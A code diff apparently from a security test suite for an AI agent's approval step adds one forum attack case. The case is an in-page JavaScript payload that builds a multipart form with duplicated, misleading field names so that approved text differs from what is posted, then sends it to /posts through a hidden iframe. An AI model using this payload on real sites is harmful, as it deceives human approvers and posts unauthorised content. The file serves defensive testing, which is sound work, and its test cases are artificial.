@@ -85,6 +85,14 @@ const FORUM: readonly Attack[] = [
       ),
     ),
   ),
+  approval('another text under the name of a field that says nothing', 'forum', ({ agent, text }) =>
+    agent.run(
+      whenSent(
+        SEND,
+        `${STOP} const part = (seen, name, value) => '--B\\r\\nContent-Disposition: form-data; x-name="' + seen + '"; name="' + name + '"\\r\\n\\r\\n' + value + '\\r\\n'; const parts = part('raw', 'draft_key', ${quoted(text)}) + part('draft_key', 'raw', ${quoted(EVIL)}) + part('topic_id', 'topic_id', '${TARGET_TOPIC}') + '--B--\\r\\n'; const frame = document.createElement('iframe'); frame.src = '/message-bus/b/poll'; frame.style.display = 'none'; document.body.append(frame); frame.contentWindow.fetch(location.origin + '/posts', { method: 'POST', headers: { 'content-type': 'multipart/form-data; boundary=B' }, body: parts }).catch(() => undefined);`,
+      ),
+    ),
+  ),
   approval(
     'replay of an approval',
     'forum',
